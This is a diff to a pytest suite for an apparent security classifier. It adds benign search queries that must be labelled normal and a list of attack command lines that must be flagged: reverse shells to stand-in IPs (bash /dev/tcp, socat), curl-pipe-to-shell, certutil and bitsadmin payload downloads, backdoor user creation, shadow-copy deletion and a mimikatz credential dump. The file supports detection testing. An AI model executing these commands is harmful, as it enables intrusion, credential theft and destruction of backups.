@@ -141,6 +141,24 @@ def test_b_no_character_of_a_query_switches_a_tunnel_off(model: EdgeDemist, odd:
     assert all(answer.alarm for answer in model.classify([name, name[:9] + odd + name[10:]], task="dns-tunnel"))
 
 
+SEARCHES = [
+    "this is a 'test' input",
+    "passwd",
+    '/rest/api/2/search?jql=project = ABC AND status in (Open, "In Progress") ORDER BY created DESC',
+    "/services/search/jobs?search=search index=main sourcetype=access_combined status=404 | stats count by uri",
+    "/v1/workspaces/query?query=SecurityEvent | where EventID == 4625 | summarize count() by Account",
+    "/odata/Products?$filter=Price gt 20 and contains(Name,'chair')&$orderby=Name desc",
+    '/api/v1/query?query=sum(rate(http_requests_total{job="api",code=~"5.."}[5m])) by (instance)',
+    "/graphql?query={user(id:5){name,email}}",
+    "/search?q=rock 'n' roll",
+]
+
+
+@pytest.mark.parametrize("text", SEARCHES, ids=lambda value: value[:40])
+def test_k21_a_search_is_normal_by_its_label(model: EdgeDemist, text: str) -> None:
+    assert model.classify(text, task="uri-attack")[0].label == "normal"
+
+
 @pytest.mark.parametrize("text", ["Microsoft NCSI", "Mozilla/5.0"])
 def test_k17_an_operating_system_is_no_attack_tool(model: EdgeDemist, text: str) -> None:
     assert model.classify(text, task="user-agent")[0].label != "attack-tool"
@@ -170,6 +188,14 @@ ATTACKS = [
     ("cmdline", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
     ("cmdline", CRADLE),
     ("cmdline", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+    ("cmdline", "curl http://1.2.3.4/x.sh | sh"),
+    ("cmdline", "net user backdoor Passw0rd! /add"),
+    ("cmdline", "certutil -urlcache -split -f http://10.0.0.5/a.exe a.exe"),
+    ("cmdline", "vssadmin delete shadows /all /quiet"),
+    ("cmdline", "wmic shadowcopy delete"),
+    ("cmdline", r"bitsadmin /transfer job http://10.1.1.1/x.exe C:\temp\x.exe"),
+    ("cmdline", 'mshta vbscript:Execute("msgbox ""Привет"":CreateObject(""WScript.Shell"").Run ""calc"":close")'),
+    ("cmdline", "socat tcp-connect:10.0.0.1:4444 exec:sh,pty,stderr,setsid,sigint,sane"),
     ("uri-attack", "{{7*7}}"),
     ("uri-attack", "/hello/${7*7}"),
     ("uri-attack", "/a/<%= 7*7 %>"),
